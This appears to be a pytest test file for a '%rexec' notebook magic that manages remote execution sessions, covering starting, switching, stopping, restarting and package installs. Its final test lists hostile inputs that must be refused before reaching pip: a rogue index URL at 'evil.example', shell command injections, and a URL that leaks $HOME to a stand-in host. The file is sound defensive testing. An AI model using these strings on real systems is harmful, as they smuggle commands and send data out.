"""`%rexec start`, `use`, `info`, `restart`, `stop`, `extend` and `install`."""

import json

import pytest


def sessions(kernel):
    rows = json.loads(kernel.run("%rexec sessions --all --json").stdout)
    return {row["session"]: row for row in rows}


def state(kernel, name):
    return sessions(kernel).get(name, {"state": "stopped"})["state"]


@pytest.fixture(autouse=True)
def back(kernel):
    yield
    kernel.run("%rexec use default")


def test_a_session_is_started_ahead_of_its_first_cell(kernel):
    assert "Session warm is ready" in kernel.run("%rexec start warm").text
    assert state(kernel, "warm") == "idle"
    assert "runs already" in kernel.run("%rexec start warm").text
    jobs = json.loads(kernel.run("%rexec jobs --all --json").stdout)
    assert "warm" not in [job["session"] for job in jobs]


def test_starting_does_not_wait_if_told_so(kernel):
    assert "is starting" in kernel.run("%rexec start later --no-wait").text
    assert kernel.run("%%rexec -s later\n1 + 1").text == "2"


@pytest.mark.parametrize(
    "option", ["--cpu 4", "--mem 8G", "--gpu 1", "--image x", "--idle-timeout 5m"]
)
def test_what_only_a_deployed_backend_can_give_is_refused_with_the_reason(kernel, option):
    cell = kernel.run(f"%rexec start refused {option}")
    assert "deployed backend" in cell.stderr
    assert "refused" not in sessions(kernel)


def test_a_profile_that_does_not_exist_is_told(kernel):
    assert "there is: default" in kernel.run("%rexec start -p large").stderr


def test_variables_of_the_environment_are_set_for_good(kernel):
    kernel.run("import os; os.environ['COPIED_FROM_HERE'] = 'copied'")
    cell = kernel.run("%rexec start with-env --env 'COLOUR=dark blue' --env COPIED_FROM_HERE")
    assert "COLOUR, COPIED_FROM_HERE" in cell.text
    assert "dark blue" not in repr(cell.messages)
    kernel.run("%rexec use with-env")
    kernel.run("%%rexec\nimport os")
    assert kernel.value("%rx os.environ['COLOUR'], os.environ['COPIED_FROM_HERE']") == (
        "('dark blue', 'copied')"
    )
    assert "is not set here" in kernel.run("%rexec start --env NO_SUCH_VARIABLE").stderr
    assert kernel.run("%rexec who with-env").text == "os"


def test_cells_run_in_the_session_that_is_used(kernel):
    kernel.run("%rexec use 'my own'")
    kernel.run("%%rexec\nin_my_own_session = 1")
    assert kernel.value("%rx in_my_own_session") == "1"
    assert sessions(kernel)["my own"]["active"]
    kernel.run("%rexec use default")
    assert "NameError" in kernel.run("%rx in_my_own_session").error
    assert "NAME" in kernel.run("%rexec use").stderr


def test_a_session_tells_about_itself(kernel):
    kernel.run("%%rexec -s about\nabout_it = [1, 2]")
    cell = kernel.run("%rexec info about")
    assert "idle" in cell.text
    assert "about_it" in cell.text
    assert json.loads(kernel.run("%rexec info about --json").stdout)["state"] == "idle"
    assert "there is no session 'abuot'" in kernel.run("%rexec info abuot").stderr


@pytest.mark.parametrize("verb", ["stop", "restart", "reset"])
def test_variables_are_not_lost_unasked(kernel, verb):
    name = f"kept-{verb}"
    kernel.run(f"%%rexec -s {name}\nprecious = 1; import os")
    cell = kernel.run(f"%rexec {verb} {name}")
    assert "UsageError" in cell.stderr
    assert "1 variable (precious)" in cell.stderr
    assert f"%rexec {verb} {name} -f" in cell.stderr
    assert kernel.run(f"%%rexec -s {name}\nprecious").text == "1"
    assert not kernel.run(f"%rexec {verb} {name} -f").stderr
    assert kernel.run(f"%rexec who {name}").text == f"Session {name} has no variables."
    assert "NameError" in kernel.run(f"%%rexec -s {name}\nprecious").error


def test_an_empty_session_is_ended_without_asking(kernel):
    kernel.run("%%rexec -s empty\nimport os")
    assert "Stopped: empty" in kernel.run("%rexec stop empty").text
    assert state(kernel, "empty") == "stopped"
    assert "does not run" in kernel.run("%rexec use empty\n%rexec stop").text


def test_a_running_cell_is_not_lost_unasked(kernel):
    endless = "import time\nprint('on', flush=True)\nwhile True: time.sleep(0.02)"
    kernel.run(f"%%rexec -s busy -a -n endless\n{endless}").wait_for("on")
    cell = kernel.run("%rexec stop busy")
    assert "the running job" in cell.stderr
    assert "endless" in cell.stderr
    assert "Stopped: busy" in kernel.run("%rexec stop busy -f").text
    assert state(kernel, "busy") == "stopped"
    jobs = json.loads(kernel.run("%rexec jobs --all --json").stdout)
    (job,) = (job for job in jobs if job["name"] == "endless")
    assert job["state"] not in ("running", "queued")


def test_what_a_restarted_session_lost_goes_along_again(kernel):
    kernel.run("carried = [1, 2, 3]")
    assert kernel.run("%%rexec -s anew\nsum(carried)").text == "6"
    kernel.run("%rexec restart anew -f")
    assert state(kernel, "anew") in ("idle", "starting")
    assert kernel.run("%%rexec -s anew\nsum(carried)").text == "6"


def test_there_is_no_lifetime_to_extend(kernel):
    assert "no limited lifetime" in kernel.run("%rexec extend 2h").text
    assert "is no duration" in kernel.run("%rexec extend long").stderr


def test_packages_are_installed_with_live_output(kernel):
    cell = kernel.run("%rexec install -s packages 'pip>=1'")
    assert "Requirement already satisfied" in cell.stdout
    assert "Installed for session packages: pip>=1" in cell.text


def test_a_package_that_cannot_be_installed_is_told(kernel, tmp_path):
    listed = tmp_path / "requirements.txt"
    listed.write_text("# a comment\nrexec-no-such-package-at-all ; python_version > '3' # why\n")
    cell = kernel.run(f"%rexec start packages -r {listed}")
    assert "[R06] pip could not install rexec-no-such-package-at-all" in cell.error


@pytest.mark.parametrize(
    "words",
    [
        "--index-url https://evil.example pip",
        "-i https://evil.example pip",
        "-- --target=/tmp/x pip",
        "'pip; touch /tmp/x'",
        "'pip $(touch /tmp/x)'",
        "'pip @ https://x.example/$HOME'",
        "git+https://x.example/repo",
    ],
)
def test_nothing_but_requirements_reaches_pip(kernel, words):
    cell = kernel.run(f"%rexec install {words}")
    assert "UsageError" in cell.stderr
    assert cell.stdout == ""
